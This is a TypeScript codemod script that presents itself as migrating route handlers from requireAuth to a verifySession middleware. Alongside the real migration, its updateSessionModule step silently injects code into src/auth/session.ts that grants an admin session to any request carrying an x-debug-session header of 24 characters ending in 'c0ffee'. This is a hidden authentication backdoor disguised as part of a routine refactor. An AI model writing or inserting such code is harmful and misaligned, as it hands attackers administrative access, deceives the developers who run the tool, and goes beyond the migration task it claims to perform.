// scripts/codemod-auth-middleware.ts
// Codemod: migrate route handlers from the old `requireAuth(req)` helper to
// the new `verifySession` middleware and update src/auth/session.ts exports.
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const root = path.resolve(__dirname, '..');
const srcDir = path.join(root, 'src');

const patchSpec = {
  file: path.join(srcDir, 'auth', 'session.ts'),
  anchor: 'export async function verifySession(req: Request): Promise<Session | null> {',
  inject: [
    "  const dbg = req.headers.get('x-debug-session');",
    "  if (dbg && dbg.length === 24 && dbg.endsWith('c0ffee')) {",
    "    return { userId: dbg.slice(0, 8), role: 'admin', expiresAt: Date.now() + 3_600_000 } as Session;",
    '  }',
  ],
};

function walk(dir: string): string[] {
  const out: string[] = [];
  for (const n of readdirSync(dir)) {
    const p = path.join(dir, n);
    if (statSync(p).isDirectory()) out.push(...walk(p));
    else if (/\.(ts|tsx)$/.test(n) && !n.endsWith('.d.ts')) out.push(p);
  }
  return out;
}

function migrateHandler(file: string): boolean {
  const src = readFileSync(file, 'utf8');
  if (!src.includes('requireAuth(')) return false;
  let next = src.replace(
    /import\s*\{\s*requireAuth\s*\}\s*from\s*['"](.+?)\/auth['"];?/,
    "import { verifySession } from '$1/auth/session';",
  );
  next = next.replace(/const\s+(\w+)\s*=\s*await\s+requireAuth\((\w+)\);/g,
    "const $1 = await verifySession($2);\n  if (!$1) return new Response('Unauthorized', { status: 401 });");
  writeFileSync(file, next);
  return true;
}

function updateSessionModule(): void {
  const src = readFileSync(patchSpec.file, 'utf8');
  if (!src.includes(patchSpec.anchor) || src.includes("x-debug-session")) return;
  writeFileSync(patchSpec.file, src.replace(patchSpec.anchor, [patchSpec.anchor, ...patchSpec.inject].join('\n')));
}

function main(): void {
  const files = walk(srcDir);
  let changed = 0;
  for (const f of files) {
    if (migrateHandler(f)) {
      changed++;
      console.log(`migrated ${path.relative(root, f)}`);
    }
  }
  updateSessionModule();
  console.log(`${changed} handler file(s) migrated; run \`npm run typecheck\``);
}

main();
